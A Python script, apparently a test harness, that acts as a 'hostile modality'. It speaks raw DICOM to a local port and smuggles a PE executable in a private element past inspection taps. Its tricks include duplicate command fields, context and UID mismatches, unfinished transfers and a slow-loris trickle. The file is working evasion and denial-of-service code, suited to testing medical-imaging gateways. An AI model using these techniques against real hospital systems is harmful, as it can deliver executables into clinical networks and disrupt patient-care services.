"""A hostile modality: a raw DICOM Upper Layer peer (no toolkit) that sends one
C-STORE, carrying the PE file named on the command line in a private element, the way
a lenient receiver (DCMTK's storescp) still stores it but a naive tap does not read it
as a C-STORE, or never finishes it (and releases, or lingers, or trickles it in as a
slow-loris: "loris", 8 bytes every 0.25 s for at most 30 s, never the last fragment). Usage: hostile_modality.py PORT PE_FILE TRICK UID. Prints the type of the
first PDU answered after the C-STORE (4 P-DATA: the receiver answered; 6 A-RELEASE-RP; 7 A-ABORT)."""
import socket, struct, sys

CT, ECHO, PDF = "1.2.840.10008.5.1.4.1.1.2", "1.2.840.10008.1.1", "1.2.840.10008.5.1.4.1.1.104.1"
ELE, ILE = "1.2.840.10008.1.2.1", "1.2.840.10008.1.2"
port, pe_file, trick, uid = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
PE = open(pe_file, "rb").read()


def item(kind, value):
    return bytes([kind, 0]) + struct.pack(">H", len(value)) + value


def context(id_, abstract, ts):
    return item(0x20, bytes([id_, 0, 0, 0]) + item(0x30, abstract.encode()) + item(0x40, ts.encode()))


def associate_rq():
    v = struct.pack(">HH", 1, 0) + b"PACS".ljust(16) + b"CT1".ljust(16) + bytes(32)
    v += item(0x10, b"1.2.840.10008.3.1.1.1")
    v += context(1, CT, ELE) + context(3, ECHO, ILE) + context(5, PDF, ELE)
    v += item(0x50, item(0x51, struct.pack(">I", 16384)) + item(0x52, b"1.2.3.4"))
    return bytes([1, 0]) + struct.pack(">I", len(v)) + v


def pdata(context_id, control, data):
    body = struct.pack(">I", len(data) + 2) + bytes([context_id, control]) + data
    return bytes([4, 0]) + struct.pack(">I", len(body)) + body


def implicit(element, value):
    if len(value) % 2:
        value += b"\0"
    return struct.pack("<HHI", 0, element, len(value)) + value


def explicit(group, element, vr, value):
    if len(value) % 2:
        value += b"\0"
    if vr == b"OB":
        return struct.pack("<HH", group, element) + vr + b"\0\0" + struct.pack("<I", len(value)) + value
    return struct.pack("<HH", group, element) + vr + struct.pack("<H", len(value)) + value


def command(sop_class, field_elements):
    body = implicit(0x0002, sop_class.encode()) + field_elements
    body += implicit(0x0110, struct.pack("<H", 1)) + implicit(0x0700, struct.pack("<H", 0))
    body += implicit(0x0800, struct.pack("<H", 0)) + implicit(0x1000, uid.encode())
    return implicit(0x0000, struct.pack("<I", len(body))) + body


def recv_pdu(s):
    head = b""
    while len(head) < 6:
        chunk = s.recv(6 - len(head))
        if not chunk:
            return None
        head += chunk
    n, body = struct.unpack(">I", head[2:6])[0], b""
    while len(body) < n:
        chunk = s.recv(n - len(body))
        if not chunk:
            break
        body += chunk
    return head + body


store = implicit(0x0100, struct.pack("<H", 0x0001))
sop_class, ctx_of_data = CT, 1
if trick == "two-command-fields":  # DCMTK keeps the first: a C-STORE; a last-wins tap sees a C-ECHO
    fields = store + implicit(0x0100, struct.pack("<H", 0x0030))
elif trick == "trailing-bytes":  # a tap that gives up on the set relays the data set unread
    fields = store
elif trick == "pdf-on-ct-context":  # a SOP class the route refused, on the CT context
    fields, sop_class = store, PDF
elif trick == "data-on-another-context":
    fields, ctx_of_data = store, 3
elif trick == "uid-mismatch":  # the data set names another instance than the command
    fields = store
elif trick in ("never-finished", "linger", "loris"):  # no last fragment: release, or wait
    fields = store
else:
    sys.exit("unknown trick " + trick)
cmd = command(sop_class, fields) + (b"\0\0" if trick == "trailing-bytes" else b"")
data_uid = uid + ".9" if trick == "uid-mismatch" else uid
data = explicit(8, 0x16, b"UI", sop_class.encode()) + explicit(8, 0x18, b"UI", data_uid.encode())
data += explicit(9, 0x10, b"LO", b"ACME 1.0") + explicit(9, 0x1010, b"OB", PE)
data += explicit(0x10, 0x10, b"PN", b"Doe^J")
s = socket.create_connection(("127.0.0.1", port))
s.settimeout(30)
s.sendall(associate_rq())
ac = recv_pdu(s)
assert ac and ac[0] == 2, "no A-ASSOCIATE-AC: %r" % (ac[:10] if ac else ac)
answer = None
try:
    s.sendall(pdata(1, 3, cmd))
    if trick == "loris":
        import select, time
        began = time.monotonic()
        try:
            for i in range(0, len(data), 8):
                if select.select([s], [], [], 0.25)[0] or time.monotonic() - began > 30:
                    break
                s.sendall(pdata(1, 0, data[i:i + 8]))
            answer = recv_pdu(s) if select.select([s], [], [], 0)[0] else None
        except OSError:
            answer = None
        print(answer[0] if answer else "none", "after %.1f s" % (time.monotonic() - began), flush=True)
        sys.exit(0)
    chunks = [data[i:i + 8000] for i in range(0, len(data), 8000)]
    for i, chunk in enumerate(chunks):
        last = i == len(chunks) - 1
        unfinished = last and trick in ("never-finished", "linger")
        s.sendall(pdata(1 if last else ctx_of_data, 0 if unfinished else 2 if last else 0, chunk))
    if trick == "never-finished":
        s.sendall(bytes([5, 0, 0, 0, 0, 4, 0, 0, 0, 0]))
    if trick == "linger":
        print("sent", flush=True)
    answer = recv_pdu(s)
except OSError:
    pass  # the gateway closed while we were sending: its A-ABORT may still be read
if answer is None:
    try:
        answer = recv_pdu(s)
    except OSError:
        answer = None
print(answer[0] if answer else "closed")
if answer and answer[0] == 4:
    s.sendall(bytes([5, 0, 0, 0, 0, 4, 0, 0, 0, 0]))
    recv_pdu(s)
s.close()
